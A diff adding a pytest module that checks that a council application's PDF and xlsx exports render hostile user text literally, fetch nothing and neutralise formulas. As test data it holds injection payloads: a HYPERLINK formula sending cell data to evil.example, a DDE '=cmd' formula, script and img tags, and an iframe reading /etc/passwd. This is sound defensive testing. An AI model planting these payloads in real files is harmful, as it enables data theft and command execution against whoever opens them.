@@ -1,0 +1,178 @@
+"""Hostile text in the PDF and xlsx exports: literal text, nothing fetched, no formulas.
+
+Each test imports the real exporter and skips (with the reason) only while that
+exporter does not exist yet.
+"""
+
+from __future__ import annotations
+
+import datetime as dt
+import io
+import socket
+import subprocess
+
+import pytest
+
+from tests.hostile.factories import make_hostile_council
+from tests.hostile.payloads import ALL, FORMULAS, LONG
+
+# Long unbroken Hangul makes WeasyPrint crawl (see the xfail below): the content
+# tests use every other payload, the timing test the long one alone.
+NOT_LONG = [p for p in ALL if p not in LONG]
+# openpyxl refuses ASCII control characters in cells (IllegalCharacterError).
+CONTROL = [p for p in ALL if any(ord(c) < 32 and c not in "\t\n\r" for c in p)]
+
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _cells(xlsx_bytes: bytes) -> list:
+    from openpyxl import load_workbook
+
+    workbook = load_workbook(io.BytesIO(xlsx_bytes))  # formulas kept as formulas
+    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+
+
+def assert_no_formulas(xlsx_bytes: bytes) -> list[str]:
+    """No formula cell and no string a spreadsheet would evaluate; returns the strings."""
+    strings = []
+    for cell in _cells(xlsx_bytes):
+        assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
+        if isinstance(cell.value, str):
+            strings.append(cell.value)
+            if len(cell.value) > 1:
+                assert not cell.value.startswith(FORMULA_PREFIXES), (
+                    f"{cell.parent.title}!{cell.coordinate} would be evaluated: {cell.value!r}"
+                )
+    return strings
+
+
+def assert_payloads_present(strings: list[str]) -> None:
+    """The formula payloads made it into the sheet (neutralised by assert_no_formulas)."""
+    joined = "\n".join(strings)
+    for payload in ('=HYPERLINK("http://evil.example/?x="&A1,"클릭")', "=cmd|' /C calc'!A0"):
+        assert payload in joined, payload
+
+
+@pytest.fixture
+def no_network(monkeypatch):
+    """Record (and refuse) every outgoing connection while exporting."""
+    attempts = []
+
+    def refuse(self, address):
+        attempts.append(address)
+        raise OSError("network refused in tests")
+
+    monkeypatch.setattr(socket.socket, "connect", refuse)
+    return attempts
+
+
+def test_the_result_pdf_prints_hostile_text_literally(world, no_network, tmp_path):
+    exporters = pytest.importorskip("reports.exporters", reason="reports.exporters not built yet")
+    data = make_hostile_council(world, texts=NOT_LONG)
+    filename, content_type, pdf = exporters.render_pdf_export(data.meeting, final_only=False)
+    assert content_type == "application/pdf" and pdf.startswith(b"%PDF")
+    path = tmp_path / filename
+    path.write_bytes(pdf)
+    text = subprocess.run(
+        ["pdftotext", "-enc", "UTF-8", str(path), "-"], capture_output=True, text=True, check=True
+    ).stdout
+    squeezed = "".join(text.split())
+    for payload in (
+        "<script>alert(1)</script>",
+        '<imgsrc="http://evil.example/track.png">',
+        '<iframesrc="file:///etc/passwd"></iframe>',
+        '=HYPERLINK("http://evil.example/?x="&A1,"클릭")',
+    ):
+        assert payload in squeezed, payload
+    assert not no_network, f"WeasyPrint tried to connect to {no_network}"
+    attachments = subprocess.run(
+        ["pdfdetach", "-list", str(path)], capture_output=True, text=True, check=True
+    ).stdout
+    assert attachments.strip().startswith("0 embedded files"), attachments
+    assert b"root:x:0:0" not in pdf
+
+
+def test_the_result_xlsx_neutralises_formulas(world):
+    exporters = pytest.importorskip("reports.exporters", reason="reports.exporters not built yet")
+    data = make_hostile_council(world)
+    _, _, xlsx_bytes = exporters.render_xlsx_export(data.meeting, final_only=False)
+    strings = assert_no_formulas(xlsx_bytes)
+    assert_payloads_present(strings)
+    assert any("<script>alert(1)</script>" in s for s in strings)
+
+
+def test_the_department_xlsx_neutralises_formulas(world):
+    spreadsheet = pytest.importorskip(
+        "proposals.spreadsheet", reason="proposals.spreadsheet not built yet"
+    )
+    data = make_hostile_council(world, texts=[p for p in ALL if p not in CONTROL])
+    _, _, xlsx_bytes = spreadsheet.export_department(
+        meeting=data.meeting, department=world.department
+    )
+    assert_payloads_present(assert_no_formulas(xlsx_bytes))
+
+
+def test_the_facility_registry_xlsx_neutralises_formulas(world):
+    exporter = pytest.importorskip(
+        "facilities.exporter", reason="facilities.exporter not built yet"
+    )
+    make_hostile_council(world, texts=[p for p in ALL if p not in CONTROL])
+    _, _, xlsx_bytes = exporter.registry_workbook(council=world.council, as_of=dt.date(2099, 1, 1))
+    strings = assert_no_formulas(xlsx_bytes)
+    assert any(s.startswith("'=") for s in strings)
+
+
+def test_the_formula_payloads_are_really_formulas():
+    # Proof that the check bites: an unneutralised export is refused.
+    from openpyxl import Workbook
+
+    workbook = Workbook()
+    workbook.active.append([FORMULAS[0]])
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    with pytest.raises(AssertionError):
+        assert_no_formulas(buffer.getvalue())
+
+
+CONTROL_XFAIL = pytest.mark.xfail(
+    strict=True,
+    raises=Exception,
+    reason="BUG: openpyxl raises IllegalCharacterError on ASCII control characters; "
+    "council.xlsx.safe_cell should strip them (openpyxl ILLEGAL_CHARACTERS_RE)",
+)
+
+
+@CONTROL_XFAIL
+def test_the_department_xlsx_survives_control_characters(world):
+    spreadsheet = pytest.importorskip(
+        "proposals.spreadsheet", reason="proposals.spreadsheet not built yet"
+    )
+    data = make_hostile_council(world, texts=CONTROL + FORMULAS)
+    spreadsheet.export_department(meeting=data.meeting, department=world.department)
+
+
+@CONTROL_XFAIL
+def test_the_facility_registry_xlsx_survives_control_characters(world):
+    exporter = pytest.importorskip(
+        "facilities.exporter", reason="facilities.exporter not built yet"
+    )
+    from facilities.models import Facility
+
+    make_hostile_council(world, texts=FORMULAS)
+    Facility.objects.filter(code="HX-000").update(notes=CONTROL[0])
+    exporter.registry_workbook(council=world.council, as_of=dt.date(2099, 1, 1))
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="BUG: 600 Hangul characters without a space take WeasyPrint several seconds, "
+    "1,500 ~19 s, 5,000 ~74 s: a member can stall PDF generation; reports should break long words",
+)
+def test_the_result_pdf_renders_a_long_unbroken_line_quickly(world):
+    import time
+
+    exporters = pytest.importorskip("reports.exporters", reason="reports.exporters not built yet")
+    data = make_hostile_council(world, texts=["가" * 600])
+    started = time.monotonic()
+    exporters.render_pdf_export(data.meeting, final_only=False)
+    assert time.monotonic() - started < 1.5
